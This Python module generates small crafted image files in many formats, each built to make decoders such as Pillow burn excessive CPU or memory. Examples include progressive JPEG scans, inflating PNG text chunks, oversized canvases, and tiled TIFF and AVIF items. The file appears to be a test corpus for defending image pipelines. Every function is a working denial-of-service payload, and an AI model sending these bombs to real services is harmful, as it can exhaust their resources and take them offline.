"""Small files that cost far more to decode than their size and pixels tell, one for each mechanism."""

from __future__ import annotations

import io
import lzma
import struct
import zlib
from collections.abc import Callable

from PIL import Image


def _segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def _bits(text: str) -> bytes:
    text += "1" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8).replace(b"\xff", b"\xff\0")


def _jpeg_head(side: int, marker: int = 0xC2) -> bytes:
    tables = _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00") + _segment(0xC4, b"\x10\x01\x01" + bytes(14) + b"\xe0\x00")
    frame = _segment(marker, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    return b"\xff\xd8" + _segment(0xDB, b"\0" + b"\x10" * 64) + frame + tables


def jpeg_scans(side: int = 7000, scans: int = 2500, bits: int = 0x00, marker: int = 0xC2) -> bytes:
    """Progressive JPEG: every scan passes over all blocks; `bits` 0x10 makes scans that refine."""
    blocks = (side // 8) ** 2
    first = _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + _bits("0" * blocks)
    scan = _segment(0xDA, b"\x01\x01\x00\x01\x3f" + bytes([bits])) + _bits(("0" + "1" * 14) * -(-blocks // 32767))
    return _jpeg_head(side, marker) + first + scan * scans + b"\xff\xd9"


def jpeg_padding(size: int = 8_000_000) -> bytes:
    """JPEG with fill bytes between two segments, which Pillow skips one by one."""
    return b"\xff\xd8" + b"\xff" * size + jpeg_scans(64, 1)[2:]


def jpeg_segments(count: int = 600_000) -> bytes:
    """JPEG with empty comments."""
    return b"\xff\xd8" + _segment(0xFE, b"") * count + jpeg_scans(64, 1)[2:]


def _chunk(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(chunks: bytes, side: int = 64, depth: int = 8, color: int = 0, data: bytes | None = None, interlace: int = 0) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, depth, color, 0, 0, interlace))
    rows = zlib.compress(bytes(side * (side + 1))) if data is None else data
    return b"\x89PNG\r\n\x1a\n" + head + chunks + _chunk(b"IDAT", rows) + _chunk(b"IEND")


def png_chunks() -> bytes:
    """PNG with 700,000 empty private chunks."""
    return _png(_chunk(b"abCd") * 700_000)


def png_texts() -> bytes:
    """PNG whose texts inflate a thousandfold; with a character beyond 16 bits Python needs four bytes for each."""
    text = zlib.compress("\U0001f600".encode() + b" " * ((1 << 20) - 8), 9)
    return _png(b"".join(_chunk(b"iTXt", b"k%d\0\1\0\0\0" % number + text) for number in range(250)))


def png_deep() -> bytes:
    """PNG of 49 megapixels with 16 bits in four channels, interlaced: 392 MB of rows in half a megabyte."""
    side = 7000
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(side * 8 + 1)) for _ in range(side + 200)) + packer.flush()
    return _png(b"", side, 16, 6, data, interlace=1)


def gif_extent() -> bytes:
    """GIF whose second frame lies far outside of the canvas, which grows for it."""
    head = b"GIF89a" + struct.pack("<HHBBB", 16, 16, 0x80, 0, 0) + bytes(6)
    pixels = b"\x02\x02\x4c\x01\x00"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 16, 16, 0) + pixels
    return head + frame + b"\x2c" + struct.pack("<HHHHB", 6900, 6900, 100, 100, 0) + pixels + frame + b";"


def gif_blocks() -> bytes:
    """GIF with three million blocks of one byte before its image."""
    head = b"GIF89a" + struct.pack("<HHBBB", 16, 16, 0x80, 0, 0) + bytes(6)
    return head + b"\x21\xfe" + b"\x01 " * 3_000_000 + b"\0\x2c" + struct.pack("<HHHHB", 0, 0, 16, 16, 0) + b"\x02\x02\x4c\x01\0;"


def webp_canvas() -> bytes:
    """WebP of a few bytes with a canvas of 7000 × 7000 pixels, and a small frame."""
    buffer = io.BytesIO()
    Image.new("RGBA", (16, 16), (9, 9, 9, 9)).save(buffer, "WEBP", lossless=True)
    image = buffer.getvalue()[12:]
    frame = b"ANMF" + struct.pack("<I", 16 + len(image)) + bytes(6) + b"\x0f\0\0\x0f\0\0\x64\0\0\0" + image
    side = (6999).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + side + side + b"ANIM" + struct.pack("<IIH", 6, 0, 0) + frame
    return b"RIFF" + struct.pack("<I", len(body)) + body


def bmp_runs() -> bytes:
    """BMP whose rows end at once: Pillow fills each of them pixel by pixel, in Python."""
    side = 7000
    data = b"\1\0\0\0" * side + b"\0\1"
    head = struct.pack("<IiiHHIIiiII", 40, side, side, 1, 8, 1, len(data), 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 1024 + len(data), 0, 0, 54 + 1024) + head + bytes(1024) + data


def ppm_levels() -> bytes:
    """PPM with 100 for white: Pillow scales every sample in Python."""
    return b"P6 2000 2000 100\n" + bytes(12_000_000)


def ppm_text() -> bytes:
    """PPM of numbers in text."""
    return b"P3 2000 2000 255\n" + b"0 " * 12_000_000


def _tiff(entries: list[tuple[int, int, int, int]], data: bytes, pages: int = 1) -> bytes:
    data += bytes(len(data) & 1)
    length = 6 + 12 * len(entries)
    body = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    places = [8 + len(data) + length * number for number in range(pages + 1)]
    places[pages] = 0
    directories = b"".join(struct.pack("<H", len(entries)) + body + struct.pack("<I", following) for following in places[1:])
    return b"II*\0" + struct.pack("<I", places[0] or 0) + data + directories


def _page(side: int, compression: int, bits: int = 8) -> list[tuple[int, int, int, int]]:
    return [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, bits), (259, 3, 1, compression), (262, 3, 1, 1), (277, 3, 1, 1)]


def tiff_tile(side: int = 16384, bits: int = 8) -> bytes:
    """TIFF of 128 × 128 pixels in one tile of 16384 × 16384."""
    packer = zlib.compressobj(9)
    data = b"".join([packer.compress(bytes(1 << 20)) for _ in range(side * side * bits // 8 >> 20)] + [packer.flush()])
    return _tiff([*_page(128, 8, bits), (322, 4, 1, side), (323, 4, 1, side), (324, 4, 1, 8), (325, 4, 1, len(data))], data)


def tiff_lzma_tiles() -> bytes:
    """TIFF of 4000 × 4000 pixels in 62,500 tiles, each of which starts LZMA again."""
    count, side = 62_500, 4000
    tile = lzma.compress(bytes(256))
    place = 8 + len(tile)
    data = tile + struct.pack(f"<{count}I", *[8] * count) + struct.pack(f"<{count}I", *[len(tile)] * count)
    tiles = [(322, 4, 1, 16), (323, 4, 1, 16), (324, 4, count, place), (325, 4, count, place + 4 * count)]
    return _tiff([*_page(side, 34925), *tiles], data)


def tiff_strips() -> bytes:
    """TIFF with a million strips of no bytes."""
    count = 1_000_000
    strips = [(273, 4, count, 8), (278, 4, 1, 1), (279, 4, count, 8)]
    return _tiff([*_page(1000, 1), *strips], bytes(4 * count))


def tiff_jpeg_scans() -> bytes:
    """TIFF whose one strip is a progressive JPEG of 7000 × 7000 pixels with 90 scans that refine."""
    data = jpeg_scans(7000, 90, 0x10)
    return _tiff([*_page(7000, 7), (273, 4, 1, 8), (278, 4, 1, 7000), (279, 4, 1, len(data))], data)


def tiff_second_page() -> bytes:
    """TIFF of two pages: a blank one of 16 × 16 pixels, then one in a tile of 16384 × 16384."""
    first = [*_page(16, 1), (273, 4, 1, 8), (278, 4, 1, 16), (279, 4, 1, 256)]
    second = [*_page(16, 8), (322, 4, 1, 16384), (323, 4, 1, 16384), (324, 4, 1, 8), (325, 4, 1, 256)]
    place = 8 + 256 + 6 + 12 * len(first)
    whole = _tiff(first, bytes(256))
    body = b"".join(struct.pack("<HHII", *entry) for entry in sorted(second))
    return whole[:-4] + struct.pack("<I", place) + struct.pack("<H", len(second)) + body + bytes(4)


def avif_tile() -> bytes:
    """AVIF whose boxes announce an item of 16384 × 16384 pixels beside the small image."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64)).save(buffer, "AVIF", speed=10)
    data = buffer.getvalue()
    return data.replace(b"ispe" + bytes(4) + struct.pack(">II", 64, 64), b"ispe" + bytes(4) + struct.pack(">II", 16384, 16384))


BOMBS: dict[str, Callable[[], bytes]] = {
    "jpeg-scans": jpeg_scans,
    "jpeg-refining-scans": lambda: jpeg_scans(7000, 60, 0x10),
    "jpeg-arithmetic": lambda: jpeg_scans(7000, 10, marker=0xCA),
    "jpeg-padding": jpeg_padding,
    "jpeg-segments": jpeg_segments,
    "png-chunks": png_chunks,
    "png-texts": png_texts,
    "png-16-bit": png_deep,
    "gif-extent": gif_extent,
    "gif-blocks": gif_blocks,
    "webp-canvas": webp_canvas,
    "bmp-runs": bmp_runs,
    "ppm-levels": ppm_levels,
    "ppm-text": ppm_text,
    "tiff-tile": tiff_tile,
    "tiff-lzma-tiles": tiff_lzma_tiles,
    "tiff-strips": tiff_strips,
    "tiff-jpeg-scans": tiff_jpeg_scans,
    "tiff-second-page": tiff_second_page,
    "avif-tile": avif_tile,
}
"""Makers of bombs by name."""
